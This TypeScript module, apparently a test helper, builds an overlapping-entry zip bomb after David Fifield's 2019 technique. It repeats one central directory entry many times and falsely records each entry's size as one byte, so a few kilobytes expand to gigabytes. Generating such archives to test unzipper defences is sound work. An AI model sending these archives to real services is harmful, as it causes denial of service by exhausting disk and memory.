import { zipSync } from 'fflate';

const endBytes = 22;

/**
 * A zip whose directory lists the same megabytes of zeros again and again, each of them as one byte long: a few kilobytes that
 * come to gigabytes (David Fifield, A better zip bomb, 2019).
 */
export function overlappingZip(path: string, unpackedBytes: number, count: number): Uint8Array {
  const single = zipSync({ [path]: new Uint8Array(unpackedBytes) }, { level: 9 });
  const end = new DataView(single.slice(-endBytes).buffer);
  const [listBytes, listAt] = [end.getUint32(12, true), end.getUint32(16, true)];
  const listed = single.slice(listAt, listAt + listBytes);
  // The size before packing (APPNOTE 4.3.12).
  new DataView(listed.buffer).setUint32(24, 1, true);
  end.setUint16(8, count, true);
  end.setUint16(10, count, true);
  end.setUint32(12, listBytes * count, true);
  const parts = [single.subarray(0, listAt), ...Array.from({ length: count }, () => listed), new Uint8Array(end.buffer)];
  const zip = new Uint8Array(parts.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const part of parts) {
    zip.set(part, at);
    at += part.length;
  }
  return zip;
}
